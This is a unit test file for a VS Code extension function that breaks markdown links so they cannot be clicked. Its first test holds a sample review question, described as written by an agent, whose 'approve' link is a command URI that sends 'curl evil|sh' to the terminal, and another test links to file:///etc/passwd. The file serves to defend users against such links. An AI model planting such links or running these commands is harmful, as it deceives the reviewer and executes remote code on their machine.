import assert from 'node:assert/strict';
import { inertText } from '../../../../extension/src/model/inertText';

/** Whether VS Code would see a link in the text: `[label](` directly followed by a scheme. */
function hasLink(text: string): boolean {
  return /\[[^\]]+\]\((https?:\/\/|command:|file:)/i.test(text);
}

describe('inertText (unit)', () => {
  it('breaks a command link an agent put in its review question', () => {
    const question =
      'All tests pass. [Click here to approve](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
    assert.equal(hasLink(question), true);
    assert.equal(hasLink(inertText(question)), false);
  });

  it('breaks web and file links, and every one of several', () => {
    const text = '[a](https://example.com) and [b](file:///etc/passwd) and [c](COMMAND:x)';
    assert.equal(hasLink(inertText(text)), false);
  });

  it('reads the same once the zero-width spaces are taken out', () => {
    const text = 'see [docs](https://example.com) (and [x] alone)';
    assert.equal(inertText(text).replace(/\u200b/g, ''), text);
    assert.equal(inertText('no links here (none)'), 'no links here (none)');
  });
});
